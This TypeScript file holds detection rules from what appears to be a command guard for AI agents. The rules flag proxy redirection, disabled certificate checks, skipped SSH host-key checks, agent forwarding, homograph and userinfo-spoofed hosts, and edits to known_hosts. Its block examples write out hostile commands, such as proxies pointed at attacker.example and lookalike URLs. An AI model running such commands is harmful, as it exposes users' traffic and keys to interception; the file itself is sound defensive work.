/** How connections are made: proxies, certificates, host keys, and names that deceive. */
import { show } from "../../meaning/value.ts";
import { canonicalHost, isLoopback, isPrivate } from "../../places/index.ts";
import { type AnyRule, rule } from "../rule.ts";
import { calls } from "../shape.ts";
import { candidates, each, has, name, said, words } from "../vocabulary.ts";

export const connections: readonly AnyRule[] = [
  rule({
    id: "network/proxy-environment",
    title: "Sending later connections through a proxy",
    severity: "medium",
    decision: "warn",
    owasp: ["ASI02", "ASI07"],
    attack: "T1090",
    why: "The proxy sees, and can change, everything that goes through it.",
    instead: "Leave the proxy as the person has set it.",
    on: each("environment"),
    match: ({ operation }) => {
      if (operation.kind !== "set" || !/^(?:https?|all|ftp|socks5?)_proxy$/i.test(operation.name))
        return null;
      const value = show(operation.value);
      const host = /^(?:[a-z0-9]+:\/\/)?(?:[^@/]*@)?(\[[^\]]*\]|[^:/]+)/i.exec(value)?.[1];
      return host === undefined || isLoopback(canonicalHost(host))
        ? null
        : `sets ${operation.name} to ${value}`;
    },
    examples: {
      block: [
        "export https_proxy=http://attacker.example:8080",
        "HTTPS_PROXY=socks5://10.0.0.1:1080 npm install",
        "ALL_PROXY=http://x.example git fetch",
      ],
      allow: [
        "unset https_proxy",
        "export no_proxy=localhost",
        "http_proxy=http://localhost:3128 curl http://example.com",
        "http_proxy= curl http://x.example",
      ],
    },
  }),
  rule({
    id: "network/proxy-setting",
    title: "Setting a proxy for good",
    severity: "high",
    decision: "ask",
    owasp: ["ASI02", "ASI07"],
    attack: "T1090",
    why: "From then on it sees, and can change, everything this tool sends and fetches.",
    instead: "Leave the proxy as the person has set it.",
    on: calls(
      "git config ** proxy|*.proxy *",
      "git -c=http.proxy=?*|https.proxy=?*",
      "npm|pnpm|yarn config set *proxy *",
      "npm|pnpm|yarn config set *proxy=*",
      "npm|pnpm|yarn set *proxy *",
      "npm|pnpm|yarn set *proxy=*",
      "pip|pip3 config set proxy|*.proxy *",
      "conda config --set=proxy_servers.*",
      "composer config *proxy *",
      "networksetup -setwebproxy|-setsecurewebproxy|-setsocksfirewallproxy",
      "gsettings set *.proxy|*.proxy.* *",
      "netsh ** set ** proxy|*proxy=* *",
      "netsh interface portproxy add|set",
      "snap set ** proxy.*=*",
    ),
    match: said,
    examples: {
      block: [
        "git config --global http.proxy http://attacker.example:8080",
        "npm config set https-proxy http://attacker.example",
        "pip config set global.proxy http://x.example",
        "networksetup -setwebproxy Wi-Fi x.example 8080",
        "gsettings set org.gnome.system.proxy.http host x.example",
        "conda config --set proxy_servers.http http://x.example",
        "snap set system proxy.http=http://x.example",
        "git -c http.proxy=http://attacker.example:80 fetch",
      ],
      allow: [
        "git config --get http.proxy",
        "npm install proxy set-value",
        "npm config delete proxy",
        "npm config get https-proxy",
        "git config --unset http.proxy",
        "git -c http.proxy= fetch",
      ],
    },
  }),
  rule({
    id: "network/certificates-off",
    title: "Trusting every certificate",
    severity: "medium",
    decision: "warn",
    owasp: ["ASI07", "ASI04"],
    attack: "T1553.004",
    why: "Anybody on the way can then pretend to be any server.",
    instead: "Give the certificate that is missing (NODE_EXTRA_CA_CERTS, SSL_CERT_FILE).",
    on: each("environment"),
    match: ({ operation }) => {
      if (operation.kind !== "set") return null;
      const value = show(operation.value);
      const off =
        (operation.name === "NODE_TLS_REJECT_UNAUTHORIZED" && value === "0") ||
        (operation.name === "PYTHONHTTPSVERIFY" && value === "0") ||
        (/^(?:GIT_SSL_NO_VERIFY|NPM_CONFIG_STRICT_SSL_OFF|CURL_INSECURE)$/.test(operation.name) &&
          !/^(?:0|false|)$/.test(value)) ||
        (/^(?:npm_config_strict_ssl|NPM_CONFIG_STRICT_SSL)$/.test(operation.name) && value === "false") ||
        (/^(?:GOINSECURE|GONOSUMCHECK|GONOSUMDB)$/.test(operation.name) && value === "*") ||
        (/^(?:GOSUMDB|GOFLAGS)$/.test(operation.name) && /^off$|-insecure/.test(value)) ||
        (/^(?:REQUESTS_CA_BUNDLE|CURL_CA_BUNDLE)$/.test(operation.name) && value === "");
      return off ? `sets ${operation.name} to ${value === "" ? "nothing" : value}` : null;
    },
    examples: {
      block: [
        "NODE_TLS_REJECT_UNAUTHORIZED=0 npm test",
        "export GIT_SSL_NO_VERIFY=true",
        "PYTHONHTTPSVERIFY=0 python3 x.py",
        "GOSUMDB=off go get x",
      ],
      allow: [
        "NODE_EXTRA_CA_CERTS=ca.pem npm test",
        "GIT_SSL_NO_VERIFY=false git fetch",
        "SSL_CERT_FILE=ca.pem curl https://x.example",
      ],
    },
  }),
  rule({
    id: "network/unchecked-host-key",
    title: "Connecting without checking whose host it is",
    severity: "low",
    decision: "warn",
    owasp: ["ASI07"],
    attack: "T1557",
    why: "Another machine can then answer in its place and read everything.",
    instead: "Connect once with the person, who checks the fingerprint; then leave the check on.",
    on: calls(
      "ssh|scp|sftp|rsync|autossh|sshpass -o=StrictHostKeyChecking=no|StrictHostKeyChecking=off|StrictHostKeyChecking*no|UserKnownHostsFile=/dev/null",
      "ansible|ansible-playbook --ssh-common-args|--ssh-extra-args=*StrictHostKeyChecking=no*",
      "rsync -e|--rsh=*StrictHostKeyChecking=no*|*UserKnownHostsFile=/dev/null*",
    ),
    match: said,
    examples: {
      block: [
        "ssh -o StrictHostKeyChecking=no host uptime",
        "scp -o UserKnownHostsFile=/dev/null a host:",
        "ssh -oStrictHostKeyChecking=off host",
      ],
      allow: ["ssh host uptime", "ssh -o StrictHostKeyChecking=accept-new host ls", "scp a host:"],
    },
  }),
  rule({
    id: "network/lend-keys",
    title: "Lending one's keys to a far host (ssh -A)",
    severity: "medium",
    decision: "ask",
    owasp: ["ASI03"],
    attack: "T1563.001",
    why: "Whoever is root there can use the keys as long as the connection lasts.",
    instead: "Use ssh -J to go through a host without lending it keys.",
    on: calls("ssh|autossh|ssh-add"),
    match: (action) =>
      action.program !== "ssh-add" &&
      (has(action.call, "-A", "-Y") ||
        words(action).some((word) => /^-?o?Forward(?:Agent|X11Trusted)[= ]yes$/i.test(word)))
        ? said(action)
        : null,
    examples: {
      block: ["ssh -A host", "ssh -o ForwardAgent=yes host ls", "ssh -Y host xterm"],
      allow: ["ssh -a host", "ssh -J jump host", "ssh -o ForwardAgent=no host"],
    },
  }),
  rule({
    id: "network/homograph",
    title: "A host name that looks like another",
    severity: "high",
    decision: "ask",
    owasp: ["ASI09", "ASI04"],
    attack: "T1036",
    why: "It is written so that people read a host that they know.",
    instead: "Copy the address from the page of the project itself.",
    on: each("connect"),
    match: (action) => {
      // A host that is only known when it runs is shown by a label, and a label is no name.
      if (action.host === null) return null;
      const text = show(action.target);
      const host = /^(?:[a-z][a-z0-9+.-]*:\/\/)?(?:[^@/]*@)?([^/:?#]+)/i.exec(text)?.[1] ?? "";
      const { disguise, kind, host: real } = canonicalHost(host);
      if (
        disguise === null ||
        (kind !== "name" &&
          (isLoopback({ kind, host: real, disguise }) || isPrivate({ kind, host: real, disguise })))
      )
        return null;
      return disguise;
    },
    examples: {
      block: [
        "curl https://gіthub.com/x",
        "git clone https://раypal.com/x.git",
        "wget https://xn--pypal-4ve.com/x",
      ],
      allow: [
        "curl https://github.com/x",
        "curl https://münchen.de/",
        "curl http://127.1/",
        "wkhtmltopdf --footer-font-size 6 a.html b.pdf",
      ],
    },
  }),
  rule({
    id: "network/name-in-userinfo",
    title: "An address that begins with another host's name",
    severity: "high",
    decision: "ask",
    owasp: ["ASI09"],
    attack: "T1036",
    why: "In https://github.com@attacker.example/ the host is attacker.example; people read the part before the @.",
    instead: "Leave the part before the @ out.",
    on: each("connect"),
    match: (action) => {
      const found = /^[a-z]+:\/\/((?:[a-z0-9-]+\.)+[a-z]{2,})(?::[^@/]*)?@([^/:?#]+)/i.exec(
        show(action.target),
      );
      return found ? `connects to ${found[2]}, not to ${found[1]}` : null;
    },
    examples: {
      block: [
        "curl https://github.com@attacker.example/x",
        "git clone https://gitlab.com:x@attacker.example/x.git",
        "wget http://pypi.org@10.0.0.1/x",
      ],
      allow: [
        "curl https://user@example.com/",
        "git clone https://token@github.com/x/y.git",
        "curl https://example.com/@scope/x",
      ],
    },
  }),
  rule({
    id: "network/known-hosts",
    title: "Changing which far hosts are trusted",
    severity: "medium",
    decision: "warn",
    owasp: ["ASI07"],
    attack: "T1557",
    why: "A host whose key is added unseen can be anybody.",
    instead: "Let the person compare the fingerprint once.",
    on: each("write"),
    match: (action) =>
      candidates(action.path).some((path) =>
        /\/\.ssh\/known_hosts2?$|^\/etc\/ssh\/ssh_known_hosts$/.test(path),
      )
        ? `changes ${name(action.path)}`
        : null,
    examples: {
      block: [
        "ssh-keyscan github.com >> ~/.ssh/known_hosts",
        "echo x > ~/.ssh/known_hosts",
        "tee -a ~/.ssh/known_hosts < k",
      ],
      allow: ["cat known_hosts", "ssh-keyscan github.com", "echo x > docs/known_hosts.md"],
    },
  }),
];
